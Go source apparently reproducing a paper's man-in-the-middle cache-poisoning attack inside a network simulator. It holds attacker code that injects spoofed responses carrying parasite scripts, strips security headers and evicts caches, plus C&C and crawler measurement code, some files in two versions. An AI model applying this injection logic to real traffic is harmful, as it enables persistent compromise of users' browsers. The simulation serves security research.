// letting it read and forge that host's sealed traffic.
func WithFraudulentCert(host string) Option {
	return func(m *Master) { m.certs[host] = true }
}

// New attaches the master's tap to the victim's segment with the given
// proximity delay (it must be closer than the uplink to win the race).
func New(network *netsim.Network, seg *netsim.Segment, proximity time.Duration, opts ...Option) *Master {
	m := &Master{
		net:          network,
		targets:      make(map[string]*Target),
		evictTrigger: make(map[string]bool),
		certs:        make(map[string]bool),
		junkCount:    64,
		junkSize:     4096,
	}
	for _, opt := range opts {
		opt(m)
	}
	m.sniffer = tcpsim.NewSniffer(seg, proximity, m.onSegment)
	return m
}

// Stats returns a copy of the counters.
func (m *Master) Stats() Stats { return m.stats }

// Sniffer exposes the master's observation tap (experiments stop it to
// model the victim leaving the attacker's network).
func (m *Master) Sniffer() *tcpsim.Sniffer { return m.sniffer }

// AddTarget arms the infection module for one object.
func (m *Master) AddTarget(t Target) {
	cp := t
	m.targets[t.Name] = &cp
}

// Targets lists armed target names.
func (m *Master) Targets() []string {
	out := make([]string, 0, len(m.targets))
	for n := range m.targets {
		out = append(out, n)
	}
	return out
}

// EnableEviction arms the cache-eviction module (§IV): when the victim
// requests an HTML page of any host in triggers, the master injects a
// spoofed response carrying an inline script that floods the cache with
// junkCount objects of junkSize bytes from junkHost.
func (m *Master) EnableEviction(junkHost string, junkCount, junkSize int, triggers ...string) {
	m.evictionOn = true
	m.junkHost = junkHost
	if junkCount > 0 {
		m.junkCount = junkCount
	}
	if junkSize > 0 {
		m.junkSize = junkSize
	}
	for _, h := range triggers {
		m.evictTrigger[h] = true
	}
}

// DisableEviction stops the eviction module.
func (m *Master) DisableEviction() { m.evictionOn = false }

// onSegment reacts to every TCP segment on the tapped network.
func (m *Master) onSegment(o tcpsim.Observed) {
	if len(o.Seg.Payload) == 0 {
		return
	}
	payload := o.Seg.Payload
	sealed := false
	if looksSealed(payload) {
		// HTTPS stand-in: without a fraudulent certificate the master
		// sees only ciphertext and must stand down.
		plain, ok := m.tryUnseal(payload)
		if !ok {
			m.stats.SealedSkipped++
			return
		}
		m.stats.SealedDecrypted++
		payload = plain
		sealed = true
	}
	req, _, err := httpsim.ParseRequest(payload)
	if err != nil {
		return
	}
	m.stats.RequestsSeen++
	name := req.Host + req.PathOnly()

	// Infection module (Fig. 2): requests for armed persistent objects.
	if t, ok := m.targets[name]; ok {
		// The reload-original request (cache-buster query, Fig. 2 step 3)
		// must pass through unmodified, or the page would break — and the
		// paper's step 4 delivers the *unmodified* object.
		if req.Query("t") != "" || req.Query("orig") != "" {
			return
		}
		m.inject(o, m.BuildInfectedResponse(t), sealed, req.Host)
		return
	}

	// Eviction module (Fig. 1): HTML navigations on trigger hosts.
	if m.evictionOn && m.evictTrigger[req.Host] && isNavigation(req) {
		m.inject(o, m.buildEvictionResponse(), sealed, req.Host)
		m.stats.EvictionScripts++
	}
}

func isNavigation(req *httpsim.Request) bool {
	p := req.PathOnly()
	return p == "/" || strings.HasSuffix(p, ".html")
}

func looksSealed(b []byte) bool {
	return len(b) >= 4 && b[0] == 'T' && b[1] == 'L' && b[2] == 'S' && b[3] == '1'
}

// tryUnseal attempts every fraudulent certificate's key.
func (m *Master) tryUnseal(b []byte) ([]byte, bool) {
	for host := range m.certs {
		if plain, _, err := (httpsim.XORSealer{Key: httpsim.HostKey(host)}).Open(b); err == nil {
			return plain, true
		}
	}
	return nil, false
}

// inject races the spoofed response against the genuine server, splitting
// it into MSS-sized spoofed segments marshalled directly into pooled
// frames.
func (m *Master) inject(o tcpsim.Observed, resp *httpsim.Response, sealed bool, host string) {
	wire := resp.Marshal()
	if sealed {
		wire = httpsim.XORSealer{Key: httpsim.HostKey(host)}.Seal(wire)
	}
	tmpl := tcpsim.SpoofSegment(o)
	tap := m.sniffer.Tap()
	const mss = tcpsim.DefaultMSS
	for off := 0; off < len(wire); off += mss {
		end := off + mss
		if end > len(wire) {
			end = len(wire)
		}
		seg := tmpl
		seg.Seq = tcpsim.SeqAdd(tmpl.Seq, off)
		seg.Payload = wire[off:end]
		tap.InjectPayload(o.Dst, o.Src, netsim.ProtoTCP,
			func(dst []byte) []byte { return seg.AppendMarshal(dst) })
	}
	m.stats.Injections++
}

// BuildInfectedResponse constructs the spoofed response for a target:
// original content with the parasite attached, cache lifetime maximised,
// and security headers removed (§VI-A "The cache headers are adapted ...
// In addition, security headers are removed").
func (m *Master) BuildInfectedResponse(t *Target) *httpsim.Response {
	var body []byte
	switch t.Kind {
	case KindHTML:
		body = script.EmbedHTML(t.Original, "parasite", t.ParasitePayload)
	default:
		body = script.Embed(t.Original, "parasite", t.ParasitePayload)
	}
	resp := httpsim.NewResponse(200, body)
	resp.Header.Set("Cache-Control", httpcache.MaxFreshness)
	if t.Kind == KindHTML {
		resp.Header.Set("Content-Type", "text/html")
	} else {
		resp.Header.Set("Content-Type", "application/javascript")
	}
	// No CSP, no HSTS, no X-Frame-Options, no SRI-bearing markup: the
	// attacker controls every header of the spoofed response.
	return resp
}

// buildEvictionResponse is the small inline script of Fig. 1 step 2: it
// loads junk objects until the cache has turned over.
func (m *Master) buildEvictionResponse() *httpsim.Response {
	payload := fmt.Sprintf("%s|%d|%d", m.junkHost, m.junkCount, m.junkSize)
	html := script.EmbedHTML([]byte("<html><body></body></html>"), "evict", payload)
	resp := httpsim.NewResponse(200, html)
	resp.Header.Set("Content-Type", "text/html")
	resp.Header.Set("Cache-Control", "no-store") // leave no trace of the attack page
	return resp
}

// RegisterEvictionBehavior gives a browser runtime the semantics of the
// eviction script (this is not victim cooperation — it is the simulator's
// stand-in for "the browser executes whatever JavaScript it receives").
func RegisterEvictionBehavior(rt *script.Runtime) {
	rt.Register("evict", func(env script.Env, payload string) error {
		parts := strings.Split(payload, "|")
		if len(parts) != 3 {
			return fmt.Errorf("attacker: bad eviction payload %q", payload)
		}
		host := parts[0]
		count, err := strconv.Atoi(parts[1])
		if err != nil {
			return fmt.Errorf("attacker: bad junk count: %w", err)
		}
		for i := 0; i < count; i++ {
			url := fmt.Sprintf("%s/junk%03d.jpg", host, i)
			env.AddImage(url, nil)
		}
		return nil
	})
}

// NewJunkServer serves the eviction module's junk images from the
// attacker's domain: /junkNNN.jpg objects of size bytes, long-lived so
// they occupy cache space.
func NewJunkServer(stack *tcpsim.Stack, port uint16, size int) (*httpsim.Server, error) {
	blob := make([]byte, size)
	for i := range blob {
		blob[i] = byte('j')
	}
	return httpsim.NewServer(stack, port, func(req *httpsim.Request) *httpsim.Response {
		if !strings.HasPrefix(req.PathOnly(), "/junk") {
			return httpsim.NewResponse(404, nil)
		}
		resp := httpsim.NewResponse(200, blob)
		resp.Header.Set("Content-Type", "image/jpeg")
		resp.Header.Set("Cache-Control", "public, max-age=31536000")
		return resp
	})
}
