package attacker

import (
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/tcpsim"
)

// CNCAdapter serves a cnc.MasterServer over httpsim, so the same covert
// protocol runs both on a real loopback socket (cnc package, cmd/master)
// and inside the packet simulation (Fig. 4's "establish C&C connection").
// It dispatches straight into the server's transport-independent Route,
// skipping the net/http request and response-recorder scaffolding the
// simulation used to pay for on every covert image; the header policy is
// shared with ServeHTTP through cnc.SetResponseHeaders, so the two
// transports stay byte-identical on the wire.
func CNCAdapter(m *cnc.MasterServer) httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		if m.Delay > 0 {
			// Honour the per-request service-delay knob exactly as the
			// net/http path does.
			time.Sleep(m.Delay)
		}
		status, ctype, body := m.Route(req.Path, nil)
		out := httpsim.NewResponse(status, body)
		cnc.SetResponseHeaders(status, ctype, out.Header.Set)
		return out
	}
}

// NewCNCServer starts the in-simulation C&C endpoint on the attacker's
// remote server stack.
func NewCNCServer(stack *tcpsim.Stack, port uint16, m *cnc.MasterServer) (*httpsim.Server, error) {
	return httpsim.NewServer(stack, port, CNCAdapter(m))
}
