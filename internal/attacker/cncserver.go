package attacker

import (
	"net/http"
	"net/http/httptest"

	"masterparasite/internal/cnc"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/tcpsim"
)

// CNCAdapter serves a cnc.MasterServer over httpsim, so the same covert
// protocol runs both on a real loopback socket (cnc package, cmd/master)
// and inside the packet simulation (Fig. 4's "establish C&C connection").
func CNCAdapter(m *cnc.MasterServer) httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		httpReq, err := http.NewRequest(http.MethodGet, "http://master"+req.Path, nil)
		if err != nil {
			return httpsim.NewResponse(400, nil)
		}
		rec := httptest.NewRecorder()
		m.ServeHTTP(rec, httpReq)
		out := httpsim.NewResponse(rec.Code, rec.Body.Bytes())
		for k, vs := range rec.Header() {
			if len(vs) > 0 {
				out.Header.Set(k, vs[0])
			}
		}
		return out
	}
}

// NewCNCServer starts the in-simulation C&C endpoint on the attacker's
// remote server stack.
func NewCNCServer(stack *tcpsim.Stack, port uint16, m *cnc.MasterServer) (*httpsim.Server, error) {
	return httpsim.NewServer(stack, port, CNCAdapter(m))
}
