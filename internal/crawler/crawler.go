// Package crawler implements the paper's measurement tooling: the daily
// persistency crawler behind Fig. 3 ("we develop a web crawler to collect
// statistics over 15K-top Alexa pages ... collect hashes over the files
// and names ... ran daily over a period of 100 days") and the security-
// header survey behind Fig. 5 and the §V/§VIII statistics.
//
// The crawler consumes rendered pages — it parses HTML and response
// headers exactly as a crawler over the live web would — with the
// synthetic corpus standing in for the Alexa population.
//
// Crawling is embarrassingly parallel: pages render purely from the
// corpus's deterministic generators, so the daily crawl tiles into
// (site-chunk × day) jobs and the header survey fans out one job per
// site, both through the scenario-fleet runner with per-tile counts
// folded in submission order. Counts are integers and addition is
// order-free, so the statistics are bit-identical at any worker count
// and any tiling.
package crawler

import (
	"sort"
	"strconv"
	"strings"

	"masterparasite/internal/browser"
	"masterparasite/internal/dom"
	"masterparasite/internal/runner"
	"masterparasite/internal/webcorpus"
)

// PersistencyPoint is one measurement day of Fig. 3.
type PersistencyPoint struct {
	Day int `json:"day"`
	// AnyJS is the share of sites serving at least one external script.
	AnyJS float64 `json:"any_js"`
	// PersistentName is the share of sites with at least one script whose
	// *name* has survived since day 0 — the attacker-relevant identity,
	// because caches key by name.
	PersistentName float64 `json:"persistent_name"`
	// PersistentHash is the share with at least one script unchanged in
	// *content* since day 0.
	PersistentHash float64 `json:"persistent_hash"`
}

// PersistencyResult is the Fig. 3 dataset.
type PersistencyResult struct {
	Sites  int                `json:"sites"`
	Points []PersistencyPoint `json:"points"`
}

// At returns the point for a day (or the last one before it; the first
// point when day precedes the whole study). Points are sorted by day,
// so the lookup is a binary search. An empty result — a corpus with no
// crawlable site at all — yields the zero point.
func (r *PersistencyResult) At(day int) PersistencyPoint {
	if len(r.Points) == 0 {
		return PersistencyPoint{}
	}
	i := sort.Search(len(r.Points), func(i int) bool { return r.Points[i].Day > day })
	if i == 0 {
		return r.Points[0]
	}
	return r.Points[i-1]
}

// Table flattens the dataset — one row per measurement day — for the
// CSV and Markdown artifact renderers.
func (r *PersistencyResult) Table() (header []string, rows [][]string) {
	header = []string{"day", "any_js", "persistent_hash", "persistent_name"}
	pct := func(v float64) string { return strconv.FormatFloat(v, 'f', 2, 64) }
	for _, p := range r.Points {
		rows = append(rows, []string{strconv.Itoa(p.Day), pct(p.AnyJS), pct(p.PersistentHash), pct(p.PersistentName)})
	}
	return header, rows
}

// scriptObs is what the crawler extracts from one page: same-site script
// names mapped to their content hashes. The map is nil for pages that
// carry no qualifying script — the common case on a crawl — so the
// JS-free fast path allocates nothing beyond the parse itself.
type scriptObs struct {
	scripts map[string]string // name → hash
}

// crawlDay fetches and parses one site's page for a day. Only same-site
// scripts are counted for the persistence study; shared third-party files
// (the analytics vector of §VI-B1) are tracked separately because they
// would otherwise dominate the statistic.
func crawlDay(site *webcorpus.Site, day int) (scriptObs, bool) {
	resp := site.RenderPage(day)
	if resp.StatusCode != 200 {
		return scriptObs{}, false
	}
	doc := dom.ParseHTML(site.Host+"/", resp.Body)
	var obs scriptObs
	hostPrefix := site.Host + "/"
	doc.Root.Walk(func(el *dom.Element) {
		if el.Tag != "script" {
			return
		}
		src := strings.TrimPrefix(el.Attr("src"), "//")
		if src == "" {
			return
		}
		path := src
		if q := strings.IndexByte(path, '?'); q >= 0 {
			path = path[:q]
		}
		if !strings.HasSuffix(path, ".js") {
			return
		}
		if !strings.HasPrefix(src, hostPrefix) {
			return // third-party
		}
		if obs.scripts == nil {
			obs.scripts = make(map[string]string, 8)
		}
		obs.scripts[src] = el.Attr("data-hash")
	})
	return obs, true
}

// Baseline is the memoized day-0 crawl of a corpus: one observation per
// site, in site order. CrawlPersistencyFrom and SelectTargetsFrom both
// compare later days against it, so a caller holding both can crawl
// day 0 once instead of once per consumer.
type Baseline struct {
	corpus  *webcorpus.Corpus
	obs     []scriptObs
	ok      []bool
	crawled int
}

// Crawled reports how many sites answered the baseline crawl.
func (b *Baseline) Crawled() int { return b.crawled }

// CrawlBaseline crawls every site once on day 0, one job per site.
func CrawlBaseline(r *runner.Runner, c *webcorpus.Corpus) *Baseline {
	type obsOK struct {
		obs scriptObs
		ok  bool
	}
	crawls, _ := runner.Map(r, c.Sites, func(_ int, s *webcorpus.Site) (obsOK, error) {
		o, ok := crawlDay(s, 0)
		return obsOK{obs: o, ok: ok}, nil
	})
	b := &Baseline{
		corpus: c,
		obs:    make([]scriptObs, len(crawls)),
		ok:     make([]bool, len(crawls)),
	}
	for i, cr := range crawls {
		b.obs[i] = cr.obs
		b.ok[i] = cr.ok
		if cr.ok {
			b.crawled++
		}
	}
	return b
}

// dayTile is one unit of the crawl fan-out: one measurement day over a
// contiguous chunk of the corpus.
type dayTile struct {
	day    int
	lo, hi int
}

// tileCounts is a tile's fold contribution — plain integer counts, so
// folding is associative and the totals cannot depend on scheduling.
type tileCounts struct {
	anyJS, persName, persHash int
}

// CrawlPersistency runs the daily crawl for the given number of days and
// produces the Fig. 3 curves, crawling day 0 itself. Use CrawlBaseline +
// CrawlPersistencyFrom to share the baseline with target selection.
func CrawlPersistency(r *runner.Runner, c *webcorpus.Corpus, days int) *PersistencyResult {
	return CrawlPersistencyFrom(r, CrawlBaseline(r, c), days)
}

// CrawlPersistencyFrom produces the Fig. 3 curves against an existing
// day-0 baseline. The measurement fans out as (site-chunk × day) tiles
// rather than one monolithic all-sites job per day, so a wide worker
// pool stays load-balanced even when the study has fewer days than the
// pool has workers; per-tile integer counts are folded in day order.
func CrawlPersistencyFrom(r *runner.Runner, base *Baseline, days int) *PersistencyResult {
	if days <= 0 {
		days = webcorpus.StudyDays
	}
	c := base.corpus
	crawled := base.crawled
	// Percentages are over successfully crawled sites, as in the paper
	// (its statistics are over the 13,419 responders). An all-404 corpus
	// has no denominator at all: report an empty result instead of
	// dividing the curves by zero.
	res := &PersistencyResult{Sites: crawled}
	if crawled == 0 {
		return res
	}

	// Day 0 needs no second crawl: every baseline trivially persists
	// against itself, so all three curves start at the share of crawled
	// sites serving at least one script.
	withJS := 0
	for i := range base.obs {
		if base.ok[i] && len(base.obs[i].scripts) > 0 {
			withJS++
		}
	}
	day0Share := 100 * float64(withJS) / float64(crawled)
	res.Points = append(res.Points, PersistencyPoint{
		Day: 0, AnyJS: day0Share, PersistentName: day0Share, PersistentHash: day0Share,
	})

	chunks := runner.Chunks(len(c.Sites), r.Workers())
	tiles := make([]dayTile, 0, days*len(chunks))
	for day := 1; day <= days; day++ {
		for _, ch := range chunks {
			tiles = append(tiles, dayTile{day: day, lo: ch[0], hi: ch[1]})
		}
	}
	counts, _ := runner.Map(r, tiles, func(_ int, t dayTile) (tileCounts, error) {
		var tc tileCounts
		for i := t.lo; i < t.hi; i++ {
			if !base.ok[i] {
				continue
			}
			obs, ok := crawlDay(c.Sites[i], t.day)
			if !ok {
				continue
			}
			if len(obs.scripts) > 0 {
				tc.anyJS++
			}
			name := false
			hash := false
			for n, baseHash := range base.obs[i].scripts {
				if dayHash, live := obs.scripts[n]; live {
					name = true
					if dayHash == baseHash {
						hash = true
						break
					}
				}
			}
			if name {
				tc.persName++
			}
			if hash {
				tc.persHash++
			}
		}
		return tc, nil
	})
	n := float64(crawled)
	perChunk := len(chunks)
	for day := 1; day <= days; day++ {
		var total tileCounts
		for _, tc := range counts[(day-1)*perChunk : day*perChunk] {
			total.anyJS += tc.anyJS
			total.persName += tc.persName
			total.persHash += tc.persHash
		}
		res.Points = append(res.Points, PersistencyPoint{
			Day:            day,
			AnyJS:          100 * float64(total.anyJS) / n,
			PersistentName: 100 * float64(total.persName) / n,
			PersistentHash: 100 * float64(total.persHash) / n,
		})
	}
	return res
}

// SelectTargets returns, per site, the scripts that remained name-stable
// over the whole window — "these scripts are perfect targets to be
// infected with parasites" (§VI-A). It crawls its own baseline; use
// SelectTargetsFrom to reuse one already crawled.
func SelectTargets(c *webcorpus.Corpus, window int) map[string][]string {
	return SelectTargetsFrom(runner.New(1), CrawlBaseline(runner.New(1), c), window)
}

// SelectTargetsFrom selects name-stable scripts against an existing
// day-0 baseline, crawling each site only once (on the window's last
// day) instead of re-crawling day 0. One job per site; the fold keeps
// site order, so the result is identical at any worker count.
func SelectTargetsFrom(r *runner.Runner, base *Baseline, window int) map[string][]string {
	c := base.corpus
	stable, _ := runner.Map(r, c.Sites, func(i int, s *webcorpus.Site) ([]string, error) {
		if !base.ok[i] || len(base.obs[i].scripts) == 0 {
			return nil, nil
		}
		last, ok := crawlDay(s, window)
		if !ok {
			return nil, nil
		}
		var names []string
		for n := range base.obs[i].scripts {
			if _, live := last.scripts[n]; live {
				names = append(names, n)
			}
		}
		// The baseline map iterates in random order; sort so the
		// selection is reproducible run to run.
		sort.Strings(names)
		return names, nil
	})
	out := make(map[string][]string)
	for i, names := range stable {
		if len(names) > 0 {
			out[c.Sites[i].Host] = names
		}
	}
	return out
}

// HeaderSurvey is the Fig. 5 + §V dataset.
type HeaderSurvey struct {
	Sites      int `json:"sites"`
	Responders int `json:"responders"`

	// §V Discussion (100K-top measurement, same shares).
	NoHTTPSShare float64 `json:"no_https_share"` // % of sites with no HTTPS at all
	VulnSSLShare float64 `json:"vuln_ssl_share"` // % with SSL2.0/SSL3.0

	// §V HSTS measurement (of responders).
	NoHSTSCount     int     `json:"no_hsts_count"`
	NoHSTSShare     float64 `json:"no_hsts_share"`
	PreloadCount    int     `json:"preload_count"`
	StrippableShare float64 `json:"strippable_share"` // responders not preloaded: SSL-strippable

	// Fig. 5 CSP statistics.
	CSPHeaderShare  float64        `json:"csp_header_share"` // % of pages supplying any CSP header
	CSPRulesShare   float64        `json:"csp_rules_share"`  // % supplying actual rules
	DeprecatedShare float64        `json:"deprecated_share"` // % of CSP pages on deprecated headers
	VersionCounts   map[string]int `json:"version_counts"`
	ConnectSrcUses  int            `json:"connect_src_uses"`
	ConnectSrcStar  int            `json:"connect_src_star"`

	// AnalyticsShare is the §VI-B1 shared-file statistic (% of sites
	// embedding the shared analytics script), folded into the survey
	// dataset by the fig5 artifact.
	AnalyticsShare float64 `json:"analytics_share"`
}

// Table flattens the survey into metric/value rows for the CSV and
// Markdown artifact renderers.
func (s *HeaderSurvey) Table() (header []string, rows [][]string) {
	header = []string{"metric", "value"}
	num := func(v int) string { return strconv.Itoa(v) }
	pct := func(v float64) string { return strconv.FormatFloat(v, 'f', 2, 64) }
	rows = [][]string{
		{"sites", num(s.Sites)},
		{"responders", num(s.Responders)},
		{"no_https_share", pct(s.NoHTTPSShare)},
		{"vuln_ssl_share", pct(s.VulnSSLShare)},
		{"no_hsts_count", num(s.NoHSTSCount)},
		{"no_hsts_share", pct(s.NoHSTSShare)},
		{"preload_count", num(s.PreloadCount)},
		{"strippable_share", pct(s.StrippableShare)},
		{"csp_header_share", pct(s.CSPHeaderShare)},
		{"csp_rules_share", pct(s.CSPRulesShare)},
		{"deprecated_share", pct(s.DeprecatedShare)},
		{"connect_src_uses", num(s.ConnectSrcUses)},
		{"connect_src_star", num(s.ConnectSrcStar)},
		{"analytics_share", pct(s.AnalyticsShare)},
	}
	versions := make([]string, 0, len(s.VersionCounts))
	for v := range s.VersionCounts {
		versions = append(versions, v)
	}
	sort.Strings(versions)
	for _, v := range versions {
		rows = append(rows, []string{"version:" + v, num(s.VersionCounts[v])})
	}
	return header, rows
}

// siteObs is one site's contribution to the header survey, produced by
// an independent crawl job and folded into the totals in site order.
type siteObs struct {
	noHTTPS, vulnSSL bool
	responds         bool
	noHSTS, preload  bool
	cspVersion       string // "" = no CSP
	cspRules         bool
	cspDeprecated    bool
	connectSrc       bool
	connectSrcStar   bool
}

// SurveyHeaders crawls every responding site's front page once and
// tallies the security-header statistics. One job per site.
func SurveyHeaders(r *runner.Runner, c *webcorpus.Corpus) *HeaderSurvey {
	obs, _ := runner.Map(r, c.Sites, func(_ int, site *webcorpus.Site) (siteObs, error) {
		var o siteObs
		switch site.SSL {
		case webcorpus.SSLNone:
			o.noHTTPS = true
		case webcorpus.SSLv2, webcorpus.SSLv3:
			o.vulnSSL = true
		}
		resp := site.RenderPage(0)
		if resp.StatusCode != 200 {
			return o, nil
		}
		o.responds = true
		o.noHSTS = !resp.Header.Has("Strict-Transport-Security")
		o.preload = site.HSTSPreload
		csp := browser.CSPFromHeaders(resp.Header.Get)
		if csp.Present {
			o.cspRules = len(csp.Directives) > 0
			o.cspDeprecated = csp.Deprecated
			switch {
			case !csp.Deprecated:
				o.cspVersion = "CSP"
			case resp.Header.Get(browser.CSPHeaderDeprecated) != "":
				o.cspVersion = "X-CSP"
			default:
				o.cspVersion = "X-Webkit-CSP"
			}
			o.connectSrc = csp.HasDirective("connect-src")
			o.connectSrcStar = o.connectSrc && csp.Wildcard("connect-src")
		}
		return o, nil
	})

	s := &HeaderSurvey{Sites: len(c.Sites), VersionCounts: make(map[string]int)}
	var noHTTPS, vulnSSL int
	var cspAny, cspRules, cspDeprecated int
	for _, o := range obs {
		if o.noHTTPS {
			noHTTPS++
		}
		if o.vulnSSL {
			vulnSSL++
		}
		if !o.responds {
			continue
		}
		s.Responders++
		if o.noHSTS {
			s.NoHSTSCount++
		}
		if o.preload {
			s.PreloadCount++
		}
		if o.cspVersion != "" {
			cspAny++
			if o.cspRules {
				cspRules++
			}
			if o.cspDeprecated {
				cspDeprecated++
			}
			s.VersionCounts[o.cspVersion]++
			if o.connectSrc {
				s.ConnectSrcUses++
				if o.connectSrcStar {
					s.ConnectSrcStar++
				}
			}
		}
	}
	n := float64(s.Sites)
	s.NoHTTPSShare = 100 * float64(noHTTPS) / n
	s.VulnSSLShare = 100 * float64(vulnSSL) / n
	if s.Responders > 0 {
		r := float64(s.Responders)
		s.NoHSTSShare = 100 * float64(s.NoHSTSCount) / r
		s.StrippableShare = 100 * float64(s.Responders-s.PreloadCount) / r
	}
	s.CSPHeaderShare = 100 * float64(cspAny) / n
	s.CSPRulesShare = 100 * float64(cspRules) / n
	if cspAny > 0 {
		s.DeprecatedShare = 100 * float64(cspDeprecated) / float64(cspAny)
	}
	return s
}

// AnalyticsShare measures the §VI-B1 shared-file statistic: the fraction
// of sites embedding the shared analytics script.
func AnalyticsShare(c *webcorpus.Corpus) float64 {
	n := 0
	for _, s := range c.Sites {
		if s.UsesGoogleAnalytics {
			n++
		}
	}
	return 100 * float64(n) / float64(len(c.Sites))
}
