// Package crawler implements the paper's measurement tooling: the daily
// persistency crawler behind Fig. 3 ("we develop a web crawler to collect
// statistics over 15K-top Alexa pages ... collect hashes over the files
// and names ... ran daily over a period of 100 days") and the security-
// header survey behind Fig. 5 and the §V/§VIII statistics.
//
// The crawler consumes rendered pages — it parses HTML and response
// headers exactly as a crawler over the live web would — with the
// synthetic corpus standing in for the Alexa population.
package crawler

import (
	"strings"

	"masterparasite/internal/browser"
	"masterparasite/internal/dom"
	"masterparasite/internal/webcorpus"
)

// PersistencyPoint is one measurement day of Fig. 3.
type PersistencyPoint struct {
	Day int
	// AnyJS is the share of sites serving at least one external script.
	AnyJS float64
	// PersistentName is the share of sites with at least one script whose
	// *name* has survived since day 0 — the attacker-relevant identity,
	// because caches key by name.
	PersistentName float64
	// PersistentHash is the share with at least one script unchanged in
	// *content* since day 0.
	PersistentHash float64
}

// PersistencyResult is the Fig. 3 dataset.
type PersistencyResult struct {
	Sites  int
	Points []PersistencyPoint
}

// At returns the point for a day (or the last one before it).
func (r *PersistencyResult) At(day int) PersistencyPoint {
	out := r.Points[0]
	for _, p := range r.Points {
		if p.Day <= day {
			out = p
		}
	}
	return out
}

// scriptObs is what the crawler extracts from one page: script names and
// content hashes.
type scriptObs struct {
	names  map[string]bool
	hashes map[string]string // name → hash
}

// crawlDay fetches and parses one site's page for a day. Only same-site
// scripts are counted for the persistence study; shared third-party files
// (the analytics vector of §VI-B1) are tracked separately because they
// would otherwise dominate the statistic.
func crawlDay(site *webcorpus.Site, day int) (scriptObs, bool) {
	resp := site.RenderPage(day)
	if resp.StatusCode != 200 {
		return scriptObs{}, false
	}
	doc := dom.ParseHTML(site.Host+"/", resp.Body)
	obs := scriptObs{names: make(map[string]bool), hashes: make(map[string]string)}
	for _, el := range doc.FindByTag("script") {
		src := strings.TrimPrefix(el.Attr("src"), "//")
		if src == "" || !strings.HasSuffix(strings.SplitN(src, "?", 2)[0], ".js") {
			continue
		}
		if !strings.HasPrefix(src, site.Host+"/") {
			continue // third-party
		}
		obs.names[src] = true
		obs.hashes[src] = el.Attr("data-hash")
	}
	return obs, true
}

// CrawlPersistency runs the daily crawl for the given number of days and
// produces the Fig. 3 curves.
func CrawlPersistency(c *webcorpus.Corpus, days int) *PersistencyResult {
	if days <= 0 {
		days = webcorpus.StudyDays
	}
	type baseline struct {
		obs scriptObs
		ok  bool
	}
	baselines := make([]baseline, len(c.Sites))
	crawled := 0
	for i, s := range c.Sites {
		obs, ok := crawlDay(s, 0)
		baselines[i] = baseline{obs: obs, ok: ok}
		if ok {
			crawled++
		}
	}
	// Percentages are over successfully crawled sites, as in the paper
	// (its statistics are over the 13,419 responders).
	res := &PersistencyResult{Sites: crawled}
	for day := 0; day <= days; day++ {
		var anyJS, persName, persHash int
		for i, s := range c.Sites {
			if !baselines[i].ok {
				continue
			}
			obs, ok := crawlDay(s, day)
			if !ok {
				continue
			}
			if len(obs.names) > 0 {
				anyJS++
			}
			name := false
			hash := false
			for n := range baselines[i].obs.names {
				if obs.names[n] {
					name = true
					if obs.hashes[n] == baselines[i].obs.hashes[n] {
						hash = true
						break
					}
				}
			}
			if name {
				persName++
			}
			if hash {
				persHash++
			}
		}
		n := float64(crawled)
		res.Points = append(res.Points, PersistencyPoint{
			Day:            day,
			AnyJS:          100 * float64(anyJS) / n,
			PersistentName: 100 * float64(persName) / n,
			PersistentHash: 100 * float64(persHash) / n,
		})
	}
	return res
}

// SelectTargets returns, per site, the scripts that remained name-stable
// over the whole window — "these scripts are perfect targets to be
// infected with parasites" (§VI-A).
func SelectTargets(c *webcorpus.Corpus, window int) map[string][]string {
	out := make(map[string][]string)
	for _, s := range c.Sites {
		base, ok := crawlDay(s, 0)
		if !ok {
			continue
		}
		last, ok := crawlDay(s, window)
		if !ok {
			continue
		}
		for n := range base.names {
			if last.names[n] {
				out[s.Host] = append(out[s.Host], n)
			}
		}
	}
	return out
}

// HeaderSurvey is the Fig. 5 + §V dataset.
type HeaderSurvey struct {
	Sites      int
	Responders int

	// §V Discussion (100K-top measurement, same shares).
	NoHTTPSShare float64 // % of sites with no HTTPS at all
	VulnSSLShare float64 // % with SSL2.0/SSL3.0

	// §V HSTS measurement (of responders).
	NoHSTSCount     int
	NoHSTSShare     float64
	PreloadCount    int
	StrippableShare float64 // responders not preloaded: SSL-strippable

	// Fig. 5 CSP statistics.
	CSPHeaderShare  float64 // % of pages supplying any CSP header
	CSPRulesShare   float64 // % supplying actual rules
	DeprecatedShare float64 // % of CSP pages on deprecated headers
	VersionCounts   map[string]int
	ConnectSrcUses  int
	ConnectSrcStar  int
}

// SurveyHeaders crawls every responding site's front page once and
// tallies the security-header statistics.
func SurveyHeaders(c *webcorpus.Corpus) *HeaderSurvey {
	s := &HeaderSurvey{Sites: len(c.Sites), VersionCounts: make(map[string]int)}
	var noHTTPS, vulnSSL int
	var cspAny, cspRules, cspDeprecated int
	for _, site := range c.Sites {
		switch site.SSL {
		case webcorpus.SSLNone:
			noHTTPS++
		case webcorpus.SSLv2, webcorpus.SSLv3:
			vulnSSL++
		}
		resp := site.RenderPage(0)
		if resp.StatusCode != 200 {
			continue
		}
		s.Responders++
		if !resp.Header.Has("Strict-Transport-Security") {
			s.NoHSTSCount++
		}
		if site.HSTSPreload {
			s.PreloadCount++
		}
		csp := browser.CSPFromHeaders(resp.Header.Get)
		if csp.Present {
			cspAny++
			if len(csp.Directives) > 0 {
				cspRules++
			}
			if csp.Deprecated {
				cspDeprecated++
				if resp.Header.Get(browser.CSPHeaderDeprecated) != "" {
					s.VersionCounts["X-CSP"]++
				} else {
					s.VersionCounts["X-Webkit-CSP"]++
				}
			} else {
				s.VersionCounts["CSP"]++
			}
			if csp.HasDirective("connect-src") {
				s.ConnectSrcUses++
				if csp.Wildcard("connect-src") {
					s.ConnectSrcStar++
				}
			}
		}
	}
	n := float64(s.Sites)
	s.NoHTTPSShare = 100 * float64(noHTTPS) / n
	s.VulnSSLShare = 100 * float64(vulnSSL) / n
	if s.Responders > 0 {
		r := float64(s.Responders)
		s.NoHSTSShare = 100 * float64(s.NoHSTSCount) / r
		s.StrippableShare = 100 * float64(s.Responders-s.PreloadCount) / r
	}
	s.CSPHeaderShare = 100 * float64(cspAny) / n
	s.CSPRulesShare = 100 * float64(cspRules) / n
	if cspAny > 0 {
		s.DeprecatedShare = 100 * float64(cspDeprecated) / float64(cspAny)
	}
	return s
}

// AnalyticsShare measures the §VI-B1 shared-file statistic: the fraction
